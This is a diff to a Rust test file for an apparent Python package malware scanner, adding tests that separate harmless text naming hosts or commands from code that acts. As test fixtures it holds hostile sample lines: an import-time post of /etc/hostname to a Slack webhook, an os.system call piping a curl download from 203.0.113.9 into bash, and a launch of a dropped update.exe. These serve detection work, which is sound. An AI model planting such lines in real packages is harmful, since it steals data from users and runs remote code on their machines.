@@ -10,7 +10,7 @@ mod common;
 use common::{SETUP, sdist, wheel};
 use std::io::Write;
 
-use custody_inspect::analysis::Verdict;
+use custody_inspect::analysis::{Level, Verdict};
 
 #[test]
 fn fernet_encrypted_exec_in_an_install_command_is_malicious() {
@@ -45,11 +45,12 @@ fn a_chat_webhook_with_its_token_is_a_stealer_even_at_run_time() {
     );
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &stealer)]);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
-    // A notification library that only names the service is not (the
-    // service's name at import is worth a look: suspicious).
+    // A notification library that only names the service is not, and
+    // naming it is not acting (tqdm.contrib.telegram holds the bot API's
+    // address as a constant): clean.
     let lib = "import requests\nDOCS = 'https://discord.com/api/webhooks'\ndef send(url, data):\n    requests.post(url, json=data)\n";
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", lib)]);
-    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
 }
 
 #[test]
@@ -955,4 +956,58 @@ fn streams_redirected_to_a_socket_are_a_reverse_shell_but_output_capture_is_not(
     let capture = "import os, tempfile\ndef capture():\n    f = tempfile.TemporaryFile()\n    saved = os.dup(1)\n    os.dup2(f.fileno(), 1)\n    return f, saved\ncapture()\n";
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", capture)]);
     assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+}
+
+/// Cases from a real ML environment (issue 13) judged suspicious for what
+/// their text names, each beside the look-alike that acts.
+#[test]
+fn text_that_names_a_host_or_a_command_is_not_code_that_acts() {
+    // litellm/proxy/_types.py: an example URL in a field description.
+    let described = "DESC = \"e.g. {'budget_alerts': 'https://nothooks.slack.com/services/T00000000/B00000000/XXXXXXXX'}\"\n";
+    let r = common::wheel(&[("pkg/__init__.py", described)]);
+    assert!(
+        !r.findings.iter().any(|f| f.code == "custody::drop-box"),
+        "{:#?}",
+        r.findings
+    );
+    // tqdm/contrib/telegram.py: a bot API base URL as a class constant.
+    let api = "class TelegramIO:\n    API = 'https://api.telegram.org/bot'\n";
+    let r = common::wheel(&[("pkg/__init__.py", api)]);
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    // Posting to that webhook at import still counts.
+    let posted = "import requests\nrequests.post('https://hooks.slack.com/services/T0/B0/X', json={'t': open('/etc/hostname').read()})\n";
+    let r = common::wheel(&[("pkg/__init__.py", posted)]);
+    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    // huggingface_hub/cli/skills.py: an install one-liner in a help text.
+    let help = "_SKILL = f\"\"\"\\n---\\nname: hf-cli\\n---\\nInstall: curl -LsSf https://hf.co/cli/install.sh | bash -s\\n\"\"\"\n";
+    let r = common::wheel(&[("pkg/__init__.py", help)]);
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    // The same one-liner run at import is not text.
+    let run = "import os\nos.system('curl -LsSf https://203.0.113.9/install.sh | bash -s')\n";
+    let r = common::wheel(&[("pkg/__init__.py", run)]);
+    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+}
+
+#[test]
+fn starting_a_windows_system_program_by_name_is_not_starting_a_dropped_file() {
+    // joblib/externals/loky/backend/context.py, run at import.
+    let count = "import subprocess\ncmd = '-NoProfile -Command (Get-CimInstance -ClassName Win32_Processor).NumberOfCores'\ninfo = subprocess.run(f'powershell.exe {cmd}'.split(), capture_output=True)\n";
+    let r = common::wheel(&[("pkg/__init__.py", count)]);
+    assert!(
+        !r.findings
+            .iter()
+            .any(|f| f.code == "custody::process-spawn" && f.level >= Level::High),
+        "{:#?}",
+        r.findings
+    );
+    // A file the package wrote, started the same way, is.
+    let dropped = "import subprocess\nsubprocess.run(['C:/Users/Public/update.exe'])\n";
+    let r = common::wheel(&[("pkg/__init__.py", dropped)]);
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.code == "custody::process-spawn" && f.level >= Level::High),
+        "{:#?}",
+        r.findings
+    );
 }
